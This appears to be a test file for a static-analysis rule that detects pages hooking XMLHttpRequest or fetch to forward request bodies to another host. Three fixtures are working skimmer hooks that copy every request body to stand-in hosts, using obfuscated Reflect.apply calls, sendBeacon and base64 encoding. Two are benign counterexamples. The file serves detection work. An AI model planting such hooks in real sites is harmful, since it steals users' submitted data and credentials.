// Tests for request-body-to-untrusted-host: a hook on XMLHttpRequest.prototype.send or
// window.fetch that forwards what the page sends to another host. Sections are separate scripts.

// Saved prototype methods reached through Reflect.apply and call.call; the copy goes to a
// fresh XHR opened on an unknown host.
(function () {
  var P = XMLHttpRequest.prototype, o = P.open, s = P.send;
  P.open = function (m, u) { this._u = u; return Function.prototype.call.call(o, this, m, u, true); };
  P.send = function (b) {
    if (b) {
      var x = new XMLHttpRequest();
      Reflect.apply(o, x, ['POST', 'https://metrics-relay.top/in']);
      // ruleid: request-body-to-untrusted-host
      Reflect.apply(s, x, [b]);
    }
    return Reflect.apply(s, this, arguments);
  };
})();

// ---
// A fetch wrapper that copies the request body with sendBeacon, then calls the real fetch.
(function () {
  var real = window.fetch;
  window.fetch = function (url, init) {
    if (init && init.body) {
      // ruleid: request-body-to-untrusted-host
      navigator.sendBeacon('https://cdn-static-stats.xyz/b', init.body);
    }
    return real.apply(this, arguments);
  };
})();

// ---
// The prototype written directly; the body is encoded and sent with .call on a saved send.
var origSend = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  var copy = new XMLHttpRequest();
  copy.open('POST', 'https://api-jquery-stats.com/c');
  // ruleid: request-body-to-untrusted-host
  origSend.call(copy, btoa(String(body)));
  return origSend.apply(this, arguments);
};

// ---
// Performance monitor: times requests and reports URL, status and duration (no body).
(function () {
  var proto = XMLHttpRequest.prototype, send = proto.send;
  proto.send = function (body) {
    var xhr = this, start = Date.now();
    xhr.addEventListener('loadend', function () {
      var r = new XMLHttpRequest();
      r.open('POST', 'https://rum-ingest.example-monitor.io/timings');
      // ok: request-body-to-untrusted-host
      r.send(JSON.stringify({ status: xhr.status, ms: Date.now() - start }));
    });
    return send.apply(this, arguments);
  };
})();

// ---
// First-party request logging: the hook sends bodies to the page's own site (a relative URL).
(function () {
  var realFetch = window.fetch;
  window.fetch = function (url, init) {
    // ok: request-body-to-untrusted-host
    navigator.sendBeacon('/internal/request-log', init && init.body);
    return realFetch.apply(this, arguments);
  };
})();
